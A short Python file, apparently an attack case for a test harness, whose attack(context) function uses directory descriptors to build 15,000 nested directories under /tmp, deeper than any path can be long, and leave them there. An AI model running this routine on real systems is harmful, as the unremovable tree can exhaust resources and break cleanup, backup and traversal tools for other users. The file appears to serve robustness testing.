"""Makes folders in folders, far deeper than a path can be long, and leaves them."""

import os


def attack(context):
    descriptor = os.open("/tmp", os.O_RDONLY)
    for _ in range(15_000):
        os.mkdir("d", dir_fd=descriptor)
        above, descriptor = descriptor, os.open("d", os.O_RDONLY, dir_fd=descriptor)
        os.close(above)
    return os.listdir("/tmp")
